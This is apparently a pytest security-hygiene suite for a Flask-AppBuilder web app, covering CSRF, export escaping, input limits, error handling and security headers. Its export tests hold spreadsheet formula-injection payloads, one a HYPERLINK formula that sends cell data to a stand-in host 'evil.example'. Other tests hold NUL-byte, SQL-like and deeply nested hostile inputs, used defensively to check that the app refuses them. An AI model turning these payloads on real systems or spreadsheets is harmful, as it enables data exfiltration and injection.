"""Input and output hygiene (app/web/hygiene.py, app/services/export.py): REST CSRF for
cookie sessions, export cells as text, NUL / over-long parameters 400, bodies over the limit
413, no 500 from FAB's built-in routes, security headers with a CSP nonce, list order / page
arguments checked on every registered list page and REST resource. Runs on SQLite and on
PostgreSQL (TEST_DATABASE_URL), where a NUL byte used to reach the database."""
import datetime as dt
import io
import re
import zipfile

import pytest
from flask_appbuilder import ModelView
from flask_appbuilder.api import ModelRestApi

from app.models import Incident, Service, Unit
from tests.conftest import csrf_token, login
from tests.helpers import data, unique_name

CHINESE = re.compile(r"[\u4e00-\u9fff]")


def _json_message(response):
    assert response.is_json, response.get_data(as_text=True)[:200]
    message = response.json["message"]
    assert CHINESE.search(str(message)), message
    return message


def _page_message(response):
    text = response.get_data(as_text=True)
    assert response.mimetype == "text/html" and "<html" in text, text[:200]
    assert CHINESE.search(text)
    return text


@pytest.fixture(scope="module")
def admin(app):
    return login(app.test_client(), "admin")


@pytest.fixture(scope="module")
def no_propagation(app):
    """A 500 is answered (and caught by the assertions) instead of raised into the test."""
    saved = app.config["PROPAGATE_EXCEPTIONS"]
    app.config["PROPAGATE_EXCEPTIONS"] = False
    yield
    app.config["PROPAGATE_EXCEPTIONS"] = saved


# ------------------------------------------------------------------ 1. REST CSRF

def _service_id(app):
    with data(app) as session:
        return session.query(Service).filter(Service.status == "active") \
            .order_by(Service.id).first().id


def test_rest_action_refuses_a_cookie_with_a_form_body(app, admin):
    pk = _service_id(app)
    response = admin.post(f"/api/v1/service/{pk}/end", data={"end_date": "2026-01-01"})
    assert response.status_code == 400
    assert "CSRF" in _json_message(response)
    response = admin.post(f"/api/v1/service/{pk}/end", json={})
    assert response.status_code == 400  # JSON with the cookie but no token: refused too
    with data(app) as session:
        assert session.get(Service, pk).status == "active"


def test_rest_action_with_the_cookie_and_the_csrf_header_passes(admin):
    token = csrf_token(admin, "/")
    response = admin.post("/api/v1/service/999999/end", json={},
                          headers={"X-CSRFToken": token})
    assert response.status_code == 404  # past the CSRF check, to the (missing) record


def test_rest_action_with_jwt_needs_no_token(api):
    assert api("admin").post("/api/v1/service/999999/end", json={}).status_code == 404


def test_anonymous_json_endpoints_need_no_token(app):
    client = app.test_client()
    response = client.post("/api/v1/security/login", json={
        "username": "admin", "password": "wrong", "provider": "db"})
    assert response.status_code == 401
    response = client.post("/api/v1/application_status/", json={"number": "x", "phone": "1"})
    assert response.status_code == 404


def test_page_scripts_send_the_csrf_header():
    from pathlib import Path
    js = (Path(__file__).resolve().parents[1] / "app/static/js/forms.js").read_text()
    assert "X-CSRFToken" in js and "ajaxSetup" in js


# ------------------------------------------------------------------ 2. export cells as text

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-3+4", "@SUM(A1:A2)",
             "\t=1+1", "\r=1+1", "http://evil.example/"]


NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _cells(content):
    """(formula count, cell texts, hyperlink parts) of the first sheet of an .xlsx: shared
    and inline strings, with Excel's _xHHHH_ escapes decoded."""
    from xml.etree import ElementTree
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        shared = []
        if "xl/sharedStrings.xml" in names:
            shared = ["".join(t.text or "" for t in si.iterfind(".//x:t", NS))
                      for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
    texts = []
    for c in sheet.iterfind(".//x:c", NS):
        if c.get("t") == "s":
            texts.append(shared[int(c.find("x:v", NS).text)])
        elif c.get("t") == "inlineStr":
            texts.append("".join(t.text or "" for t in c.iterfind(".//x:t", NS)))
    texts = [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), t)
             for t in texts]
    formulas = len(sheet.findall(".//x:f", NS))
    links = [n for n in names if "worksheets/_rels" in n] + sheet.findall(".//x:hyperlink", NS)
    return formulas, texts, links


def test_write_xlsx_writes_formula_like_text_as_text(tmp_path):
    from app.services.export import write_xlsx
    path, count = write_xlsx([[value, 1] for value in DANGEROUS], ["描述", "数"],
                             directory=str(tmp_path))
    assert count == len(DANGEROUS)
    with open(path, "rb") as f:
        formulas, texts, links = _cells(f.read())
    assert formulas == 0 and not links
    assert texts == ["描述", "数"] + DANGEROUS


def test_page_and_rest_exports_keep_a_formula_as_text(app, admin, api):
    formula = '=HYPERLINK("http://evil.example/","看这里")'
    title = unique_name("公式") + formula
    with data(app) as session:
        unit = session.query(Unit).filter(Unit.kind == "company").order_by(Unit.id).first()
        incident = Incident(unit=unit, occurred_on=dt.date(2026, 1, 2), title=title,
                            description=formula)
        session.add(incident)
        session.commit()
        pk = incident.id
    try:
        for response in (admin.get("/incidentview/export/", query_string={
                             "_flt_0_title": title}),
                         api("admin").get("/api/v1/incident/export/")):
            assert response.status_code == 200
            formulas, texts, links = _cells(response.data)
            assert formulas == 0 and not links
            assert title in texts
    finally:
        with data(app) as session:
            session.delete(session.get(Incident, pk))
            session.commit()


# ------------------------------------------------------------------ 3. NUL and over-long values

LONG = "x" * 1001


@pytest.mark.parametrize("url", [
    "/personview/list/?search=a%00b", "/personview/list/?_flt_0_name=a%00b",
    "/personview/list/?_flt_0_name=" + LONG, "/personview/list/?a%00=1",
    "/personview/show/1%00", "/personview/show/" + "9" * 1001,
    "/lookup/unit/?q=a%00", "/apply/status?number=a%00",
])
def test_nul_and_over_long_query_or_path_answer_400_on_pages(admin, url):
    response = admin.get(url)
    assert response.status_code == 400, (url, response.status_code)
    _page_message(response)


@pytest.mark.parametrize("url", [
    "/api/v1/person/?q=(filters:!((col:name,opr:sw,value:'a%00b')))",
    "/api/v1/guard/?search=a%00b", "/api/v1/person/?q=" + "x" * 1001,
    "/api/v1/person/1%00",
])
def test_nul_and_over_long_query_or_path_answer_400_on_the_api(api, url):
    response = api("admin").get(url)
    assert response.status_code == 400, (url, response.status_code)
    _json_message(response)


@pytest.mark.parametrize("body", [
    {"name": "a\x00b"}, {"name": "x" * 20_001}, {"a\x00": 1}, {"list": [{"deep": "\x00"}]},
    {"name": "\ud800"},
])
def test_nul_and_over_long_json_strings_answer_400(api, body):
    response = api("admin").post("/api/v1/person/", json=body)
    assert response.status_code == 400, response.get_data(as_text=True)
    _json_message(response)


def test_deeply_nested_json_answers_400(api):
    body = "[" * 100_000 + "]" * 100_000
    response = api("admin").post("/api/v1/person/", data=body,
                                 content_type="application/json")
    assert response.status_code == 400
    _json_message(response)


def test_nul_in_a_form_field_answers_400_with_nothing_written(app, admin):
    name = unique_name("空字符")
    response = admin.post("/servicetargetview/add", data={
        "csrf_token": csrf_token(admin, "/servicetargetview/add"), "name": name + "\x00"})
    assert response.status_code == 400
    _page_message(response)
    response = admin.post("/servicetargetview/add", data={
        "csrf_token": csrf_token(admin, "/servicetargetview/add"), "address": "x" * 20_001})
    assert response.status_code == 400
    from app.models import ServiceTarget
    with data(app) as session:
        assert not session.query(ServiceTarget).filter(
            ServiceTarget.name.startswith(name)).count()


def test_a_form_part_without_a_name_answers_400(api):
    """Found by the API fuzz: a part whose name's quote is escaped (`name="a\\"`) reached
    the checks with the name None."""
    boundary = "b0undary"
    part = b'Content-Disposition: form-data; name="a\\"\r\n\r\n2222'
    body = (b"--" + boundary.encode() + b"\r\n" + part + b"\r\n--" + boundary.encode()
            + b"--\r\n")
    response = api("company_hz").post("/api/v1/other_staff/import", data=body,
                                      content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 400, response.get_data(as_text=True)
    assert "没有名称" in _json_message(response)


def test_base64_file_content_is_not_cut_by_the_text_limit(app):
    from app.web.hygiene import Refused, _check_json
    body = {"documents": [{"content_base64": "QUFB" * 10_000, "filename": "a.pdf"}]}
    with app.test_request_context("/api/v1/application_intake/", method="POST", json=body):
        _check_json()  # no Refused
    body["documents"][0]["filename"] = "x" * 20_001
    with app.test_request_context("/api/v1/application_intake/", method="POST", json=body):
        with pytest.raises(Refused):
            _check_json()


# ------------------------------------------------------------------ 4. 413

def test_json_body_over_the_limit_answers_413(app, api):
    size = app.config["MAX_CONTENT_LENGTH"] + 1024 * 1024
    body = b'{"name": "' + b"x" * size + b'"}'
    response = api("admin").post("/api/v1/person/", data=body,
                                 content_type="application/json")
    assert response.status_code == 413
    assert "MB" in _json_message(response)


def test_upload_over_the_limit_answers_413_page(app, admin):
    size = app.config["MAX_CONTENT_LENGTH"] + 1024 * 1024
    response = admin.post("/unitdocumentview/add", data={
        "csrf_token": csrf_token(admin, "/"), "file": (io.BytesIO(b"x" * size), "big.pdf")},
        content_type="multipart/form-data")
    assert response.status_code == 413
    _page_message(response)


def test_upload_over_the_limit_answers_413_json(app, api):
    size = app.config["MAX_CONTENT_LENGTH"] + 1024 * 1024
    response = api("admin").put("/api/v1/unit_document/1/file", data={
        "file": (io.BytesIO(b"x" * size), "big.pdf")}, content_type="multipart/form-data")
    assert response.status_code == 413
    _json_message(response)


# ------------------------------------------------------------------ 5. FAB's built-in routes

def _fab_views(app):
    from app.views.base import ScopedModelView
    return [v for v in app.appbuilder.baseviews
            if isinstance(v, ModelView) and not isinstance(v, ScopedModelView)]


def test_fab_download_route_answers_404_everywhere(app, admin, no_propagation):
    views = [v for v in app.appbuilder.baseviews if isinstance(v, ModelView)
             and type(v).download is ModelView.download]
    assert len(views) > 20
    for view in views:
        response = admin.get(f"{view.route_base}/download/x.txt")
        assert response.status_code == 404, view.route_base


def test_fab_builtin_actions_never_answer_500(app, admin, no_propagation):
    views = _fab_views(app)
    assert {v.route_base for v in views} >= {"/users", "/roles"}
    for view in views:
        token = csrf_token(admin, "/")
        names = list(view.actions) + ["nope"]
        for name in names:
            for pk in ("999999", "x", "1"):
                r = admin.post(f"{view.route_base}/action/{name}/{pk}",
                               data={"csrf_token": token})
                assert r.status_code < 500, (view.route_base, name, pk, r.status_code)
            for form in ({}, {"action": name}, {"action": name, "rowid": "999999"},
                         {"action": name, "rowid": ["1", "x"]}):
                r = admin.post(f"{view.route_base}/action_post",
                               data={"csrf_token": token, **form})
                assert r.status_code < 500, (view.route_base, form, r.status_code)
    assert admin.post("/roles/action_post", data={
        "csrf_token": csrf_token(admin, "/"), "action": "nope"}).status_code == 404


def test_roles_cannot_be_copied(app, admin):
    from app.security.roles import ROLE_LABELS
    with data(app) as session:
        role_id = session.query(app.appbuilder.sm.role_model).filter_by(
            name="company_user").one().id
        before = session.query(app.appbuilder.sm.role_model).count()
    admin.post("/roles/action_post", data={"csrf_token": csrf_token(admin, "/"),
                                            "action": "copyrole", "rowid": str(role_id)})
    with data(app) as session:
        assert session.query(app.appbuilder.sm.role_model).count() == before
    assert "company_user" in ROLE_LABELS


def _dummy_url(app, rule):
    from flask import url_for
    args = {a: 999999 if "Integer" in type(rule._converters[a]).__name__ else "999999"
            for a in rule.arguments}
    with app.test_request_context():
        return url_for(rule.endpoint, **args)


def test_no_route_answers_500_to_a_get_with_unknown_ids(app, admin, no_propagation):
    """Every GET route of the app (FAB's own included), with ids that exist nowhere."""
    failures = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint.endswith("static") or \
                rule.rule.startswith("/logout"):
            continue
        url = _dummy_url(app, rule)
        status = admin.get(url).status_code
        if status >= 500:
            failures.append((url, status))
    assert not failures


FAB_ROUTES = ("/users", "/roles", "/groups", "/resetpassword", "/resetmypassword",
              "/userinfoeditview", "/swagger", "/api/v1/menu", "/api/v1/security", "/login")


def test_fab_builtin_routes_never_answer_500_to_junk(app, no_propagation):
    """Every route of FAB's own views, every method, with unknown ids, bad query arguments
    and an invalid form (passwords that differ, an empty name: nothing is saved)."""
    client = login(app.test_client(), "admin")
    token = csrf_token(client, "/")
    junk = {"csrf_token": token, "password": "a", "conf_password": "b", "username": "",
            "first_name": "", "roles": "x", "email": "bad"}
    failures = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith(FAB_ROUTES):
            continue
        url = _dummy_url(app, rule)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            for query in ("", "?pk=999999", "?pk=x", "?next=%00"):
                for kwargs in ({"data": junk}, {"json": {"a": 1},
                                                "headers": {"X-CSRFToken": token}}):
                    status = client.open(url + query, method=method, **kwargs).status_code
                    if status >= 500:
                        failures.append((method, url + query, status))
    assert not failures


def test_user_statistics_chart_is_not_served(admin):
    # It loads Google Charts from the internet and 500s on an unknown group_by.
    assert admin.get("/userstatschartview/chart/").status_code == 404


# ------------------------------------------------------------------ 6. headers

def test_pages_carry_security_headers_and_a_nonce_on_every_script(admin):
    response = admin.get("/personview/list/")
    headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["Cache-Control"] == "no-store"
    csp = headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "object-src 'none'" in csp and "http" not in csp and "unsafe-eval" not in csp
    nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
    script_src = re.search(r"script-src ([^;]+)", csp).group(1)
    assert "unsafe-inline" not in script_src
    html = response.get_data(as_text=True)
    scripts = re.findall(r"<script\b[^>]*>", html)
    assert scripts and all(f'nonce="{nonce}"' in s for s in scripts), scripts
    assert not re.search(r"\son(click|change|submit|load|error)=", html)
    assert admin.get("/personview/list/").headers["Content-Security-Policy"] != csp


def test_api_answers_and_error_pages_carry_the_headers(api, app):
    for response in (api("admin").get("/api/v1/person/"),
                     app.test_client().get("/no/such/page"),
                     app.test_client().get("/login/")):
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Cache-Control"] == "no-store"
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


def test_static_assets_stay_cacheable(app):
    client = app.test_client()
    for url in ("/static/js/forms.js", "/static/appbuilder/js/ab.js"):
        response = client.get(url)
        assert response.status_code == 200
        assert "no-store" not in response.headers.get("Cache-Control", "")
        assert response.headers["X-Content-Type-Options"] == "nosniff"


# ------------------------------------------------------------------ 7. list arguments

def _list_views(app):
    views = []
    for view in app.appbuilder.baseviews:
        endpoint = f"{view.endpoint}.list"
        if isinstance(view, ModelView) and endpoint in app.view_functions:
            with app.test_request_context():
                from flask import url_for
                views.append((view, url_for(endpoint)))
    return views


def test_every_list_page_refuses_bad_order_and_page_arguments(app, admin, no_propagation):
    views = _list_views(app)
    assert len(views) > 30
    for view, url in views:
        name = type(view).__name__
        for query in ({f"_oc_{name}": "name;drop", f"_od_{name}": "asc"},
                      {f"page_{name}": "-1"}, {f"page_{name}": "x"},
                      {f"psize_{name}": "-5"}, {f"psize_{name}": "0"},
                      {f"psize_{name}": "101"}, {f"page_{name}": "99999999999999999999"}):
            response = admin.get(url, query_string=query)
            assert response.status_code == 400, (url, query, response.status_code)
        if view.order_columns:
            response = admin.get(url, query_string={f"_oc_{name}": view.order_columns[0],
                                                    f"_od_{name}": "desc",
                                                    f"psize_{name}": "100",
                                                    f"page_{name}": "2"})
            assert response.status_code == 200, (url, response.status_code)


@pytest.mark.parametrize("url", ["/lookup/unit/", "/servicedesk/list/", "/applications/desk/"])
def test_our_own_pages_refuse_a_bad_page_number(admin, no_propagation, url):
    for page in ("-1", "x", "99999999999999999999"):
        assert admin.get(url, query_string={"page": page}).status_code == 400, (url, page)
    assert admin.get(url, query_string={"page": "1"}).status_code == 200


def test_every_rest_list_refuses_bad_page_and_order(app, api, no_propagation):
    resources = [v for v in app.appbuilder.baseviews if isinstance(v, ModelRestApi)]
    assert len(resources) > 20
    caller = api("admin")
    for view in resources:
        base = f"/api/v1/{view.resource_name}/"
        for q in ("(page:-1)", "(page_size:-5)", "(page_size:0)", "(order_column:nope)",
                  "(page:-1,page_size:-5,order_column:nope)"):
            for url in (base, base + "export/"):
                response = caller.get(url, query_string={"q": q})
                if response.status_code in (404, 405) and url.endswith("export/"):
                    continue  # a resource without an export
                assert response.status_code == 400, (url, q, response.status_code)
                _json_message(response)
        response = caller.get(base, query_string={"q": "(page:0,page_size:5)"})
        assert response.status_code in (200, 403), (base, response.status_code)
